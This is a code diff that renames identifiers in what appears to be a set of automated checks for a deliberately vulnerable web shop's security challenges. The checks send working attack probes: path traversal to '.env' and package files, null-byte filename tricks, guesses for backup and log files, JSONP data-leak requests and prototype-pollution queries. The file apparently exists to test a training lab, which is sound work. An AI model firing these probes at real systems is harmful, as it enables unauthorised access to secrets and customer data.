@@ -1,17 +1,24 @@
-import { overTheWire } from '../../client/raw-socket.ts';
-import { filePart, formOf } from '../multipart-forms.ts';
+import { sendRawBytes } from '../../client/raw-socket.ts';
+import { filePart, createForm } from '../multipart-forms.ts';
 import { withExif } from '../crafted-pictures.ts';
-import { all, any, saying, type Challenge, type Shop, type Try } from './challenge.ts';
+import {
+  sendAllAttempts,
+  anyReply,
+  replyContains,
+  type Challenge,
+  type ChallengeContext,
+  type Attempt,
+} from './challenge.ts';
 
 /** A line of a request as nobody tidies it; the answer's head and body. */
-async function raw({ market }: Shop, path: string, headers = ''): Promise<string> {
+async function raw({ market }: ChallengeContext, path: string, headers = ''): Promise<string> {
   const request = `GET ${path} HTTP/1.1\r\nHost: market.example\r\nConnection: close\r\n${headers}\r\n`;
-  return (await overTheWire(market.url, Buffer.from(request))).text;
+  return (await sendRawBytes(market.url, Buffer.from(request))).text;
 }
 const isFound = (text: string) => /^HTTP\/1\.1 2\d\d/.test(text);
 
 /** Whether one of these files is handed out, however the way to it is written. */
-async function served(shop: Shop, paths: readonly string[]): Promise<boolean> {
+async function served(shop: ChallengeContext, paths: readonly string[]): Promise<boolean> {
   const left = [...paths];
   const found: string[] = [];
   const asking = async () => {
@@ -42,9 +49,9 @@ const inEvery = (files: readonly string[]) => folders.flatMap((folder) => files.
 export const data: readonly Challenge[] = [
   {
     name: 'Access Log',
-    tried: 'read the logs of the server and of its database',
-    sign: 'a file',
-    solved: (shop) =>
+    attack: 'read the logs of the server and of its database',
+    successSign: 'a file',
+    isSolved: (shop) =>
       served(shop, [
         ...inEvery(['access.log', 'logs', 'logs/access.log', 'mongod.log', 'keeper.log', 'npm-debug.log']),
         ...[
@@ -58,9 +65,9 @@ export const data: readonly Challenge[] = [
   },
   {
     name: 'Confidential Document',
-    tried: 'list folders and climb out of those that are served',
-    sign: 'a list, or a file from elsewhere',
-    solved: (shop) =>
+    attack: 'list folders and climb out of those that are served',
+    successSign: 'a list, or a file from elsewhere',
+    isSolved: (shop) =>
       served(shop, [
         ...['/uploads', '/uploads/', '/pictures', '/pictures/', '/assets', '/assets/', '/ftp', '/api/'],
         ...outwards,
@@ -77,9 +84,9 @@ export const data: readonly Challenge[] = [
   },
   {
     name: 'Forgotten Developer Backup',
-    tried: 'ask for copies that editors and people leave behind',
-    sign: 'a file',
-    solved: (shop) => {
+    attack: 'ask for copies that editors and people leave behind',
+    successSign: 'a file',
+    isSolved: (shop) => {
       const files = ['package.json', 'index.html', '.env', 'server.js', 'package-lock.json'];
       const endings = [
         '.bak',
@@ -98,9 +105,9 @@ export const data: readonly Challenge[] = [
   },
   {
     name: 'Forgotten Sales Backup',
-    tried: 'ask for dumps of the database and lists of customers',
-    sign: 'a file',
-    solved: (shop) => {
+    attack: 'ask for dumps of the database and lists of customers',
+    successSign: 'a file',
+    isSolved: (shop) => {
       const names = ['dump', 'backup', 'orders', 'users', 'customers', 'coupons_2013.md', 'db', 'homechef'];
       const endings = ['.bson', '.gz', '.json', '.csv', '.sql', '.zip', '.bak', '.bak%2500.md', '.xlsx'];
       return served(shop, inEvery(names.flatMap((name) => endings.map((ending) => name + ending))));
@@ -108,9 +115,9 @@ export const data: readonly Challenge[] = [
   },
   {
     name: 'Misplaced Signature File',
-    tried: 'ask for settings, sources and maps of the sources',
-    sign: 'a file',
-    solved: async (shop) => {
+    attack: 'ask for settings, sources and maps of the sources',
+    successSign: 'a file',
+    isSolved: async (shop) => {
       const page = (await shop.market.call('get', '/', { headers: { Accept: 'text/html' } })).text;
       const scripts = [...page.matchAll(/\/assets\/[\w.-]+\.js/g)].map(([path]) => `${path}.map`);
       if (scripts.length === 0) throw new Error('The page has no scripts: nothing was tried');
@@ -128,9 +135,9 @@ export const data: readonly Challenge[] = [
   },
   {
     name: 'Poison Null Byte',
-    tried: 'end the name of a file early, so that another ending is checked than is read',
-    sign: 'a file',
-    solved: (shop) => {
+    attack: 'end the name of a file early, so that another ending is checked than is read',
+    successSign: 'a file',
+    isSolved: (shop) => {
       const ends = ['%00.webp', '%2500.webp', '%00', '\\0.webp', '%0a.webp', ';.webp', '?.webp', '%23.webp'];
       const files = ['../package.json', '..%2fpackage.json', 'package.json', '../.env', '.gitkeep'];
       const paths = ['/uploads/', '/pictures/', '/assets/'].flatMap((folder) =>
@@ -141,17 +148,17 @@ export const data: readonly Challenge[] = [
   },
   {
     name: 'Email Leak',
-    tried: 'have a member’s data answered as a script that a page elsewhere may run',
-    sign: 'a script, or leave for another origin to read',
-    solved: (shop) => {
+    attack: 'have a member’s data answered as a script that a page elsewhere may run',
+    successSign: 'a script, or leave for another origin to read',
+    isSolved: (shop) => {
       const paths = ['/api/users/profile', '/rest/user/whoami', '/api/orders/myorders', '/api/products'];
       const tries = paths.flatMap((path) =>
-        ['callback', 'jsonp', 'cb'].map((name): Try => {
+        ['callback', 'jsonp', 'cb'].map((name): Attempt => {
           const headers = { Origin: 'https://elsewhere.example', Referer: 'https://elsewhere.example/' };
           return ['get', `${path}?${name}=stolen`, { token: shop.member.token, headers }];
         }),
       );
-      return any(shop, tries, ({ text, headers }) => {
+      return anyReply(shop, tries, ({ text, headers }) => {
         const isScript = /javascript/.test(String(headers['content-type']));
         return isScript || text.includes('stolen(') || 'access-control-allow-origin' in headers;
       });
@@ -159,9 +166,9 @@ export const data: readonly Challenge[] = [
   },
   {
     name: 'Exposed Metrics',
-    tried: 'ask for figures that are only for who runs the server',
-    sign: 'figures',
-    solved: async (shop) => {
+    attack: 'ask for figures that are only for who runs the server',
+    successSign: 'figures',
+    isSolved: async (shop) => {
       const paths = [
         'metrics',
         'prometheus',
@@ -178,20 +185,20 @@ export const data: readonly Challenge[] = [
         shop,
         paths.flatMap((path) => [`/${path}`, `/api/${path}`]),
       );
-      const replies = await all(shop, [
+      const replies = await sendAllAttempts(shop, [
         ['get', '/api/health'],
         ['get', '/api/ready'],
       ]);
-      return found || replies.some(saying(/mongodb:|heap|uptime|pid|version|hostname/i));
+      return found || replies.some(replyContains(/mongodb:|heap|uptime|pid|version|hostname/i));
     },
   },
   {
     name: 'Meta Geo Stalking',
-    tried: 'find out from a dish’s picture where it was taken',
-    sign: 'the place, or the camera, in the picture',
-    solved: async (shop) => {
+    attack: 'find out from a dish’s picture where it was taken',
+    successSign: 'the place, or the camera, in the picture',
+    isSolved: async (shop) => {
       const { market, chef } = shop;
-      const { type, body } = formOf([filePart(await withExif('the kitchen of the chef'))]);
+      const { type, body } = createForm([filePart(await withExif('the kitchen of the chef'))]);
       const headers = { 'Content-Type': type };
       const { status, text } = await market.call('post', '/api/upload', { body, headers, token: chef.token });
       if (status !== 200) throw new Error(`The photo was not taken: ${status}`);
@@ -203,9 +210,9 @@ export const data: readonly Challenge[] = [
   },
   {
     name: 'Error Handling',
-    tried: 'provoke an error that tells more than it should',
-    sign: 'an answer of 5xx, a trace, or words of the database',
-    solved: async (shop) => {
+    attack: 'provoke an error that tells more than it should',
+    successSign: 'an answer of 5xx, a trace, or words of the database',
+    isSolved: async (shop) => {
       const { token } = shop.thief;
       const json = { 'Content-Type': 'application/json' };
       const bodies = [
@@ -226,7 +233,7 @@ export const data: readonly Challenge[] = [
         '/api/products/x/reviews',
         '/api/users/profile',
       ].flatMap((path) =>
-        bodies.map((body): Try => [
+        bodies.map((body): Attempt => [
           path.endsWith('profile') ? 'put' : 'post',
           path,
           { body, token, headers: json },
@@ -246,9 +253,9 @@ export const data: readonly Challenge[] = [
         '/api/products?sort=toString',
         '/api/products?__proto__[x]=1',
       ];
-      const replies = await all(shop, [
+      const replies = await sendAllAttempts(shop, [
         ...sending,
-        ...[...paths, ...queries].map((path): Try => ['get', path, { token }]),
+        ...[...paths, ...queries].map((path): Attempt => ['get', path, { token }]),
       ]);
       const telling = /(?:\n|\\n) +at |node_modules|MongoServer|Mongoose|ECONN|SyntaxError|CastError|<pre>/;
       return replies.some(({ status, text }) => status >= 500 || telling.test(text));
